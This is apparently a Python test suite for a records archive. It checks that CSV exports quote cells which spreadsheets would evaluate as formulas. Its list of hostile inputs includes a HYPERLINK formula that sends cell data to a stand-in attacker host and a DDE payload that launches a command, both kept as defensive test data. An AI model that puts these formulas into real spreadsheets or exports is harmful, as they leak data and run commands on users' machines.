"""CSV exports never hand a spreadsheet a formula: a cell a hostile document wrote as
``=HYPERLINK(...)`` arrives as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from web_support import page_csrf

from docket.archive import Archive
from docket.model.access import Viewer
from docket.records.exports import CSV_COLUMNS, spreadsheet_safe

# What Excel, LibreOffice and Google Sheets read as the start of a formula (or of a cell they
# re-parse after trimming), written out here rather than taken from the code under test.
EVALUATED = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)


def _evaluated(cell: str) -> bool:
    return cell.startswith(EVALUATED)


@given(st.text())
def test_no_cell_is_a_formula_and_the_text_is_kept(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([spreadsheet_safe(text), spreadsheet_safe(7)])
    (cell, number) = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not _evaluated(cell)
    assert number == "7"
    assert cell in (text, "'" + text)
    if _evaluated(text):
        assert cell == "'" + text


def test_a_plain_cell_is_left_alone() -> None:
    assert spreadsheet_safe("Atambayev") == "Atambayev"
    assert spreadsheet_safe("'quoted") == "'quoted"
    assert spreadsheet_safe(-5) == -5


def _hostile_records(archive: Archive) -> None:
    owner = Viewer.owner("owner")
    for name in HOSTILE:
        archive.as_viewer(owner).records.create("person", {"name": name, "description": name})


def test_records_csv_neutralises_every_hostile_cell(archive: Archive) -> None:
    _hostile_records(archive)
    out = io.StringIO()
    assert archive.as_viewer(Viewer.owner("owner")).export_records(out, fmt="csv") == len(HOSTILE)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if _evaluated(cell)] == []
    shown = {row[CSV_COLUMNS.index("value")] for row in rows[1:]}
    # Names are stored trimmed: "\t=1+1" is kept as "=1+1", itself a formula.
    assert {"'" + name.strip() for name in HOSTILE} <= shown


def test_the_workspace_download_is_neutralised_too(
    archive: Archive, client_as: Callable[[str], TestClient]
) -> None:
    _hostile_records(archive)
    client = client_as("editor")
    response = client.post(
        "/exports/records", data={"csrf_token": page_csrf(client), "format": "csv"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert [cell for row in rows for cell in row if _evaluated(cell)] == []
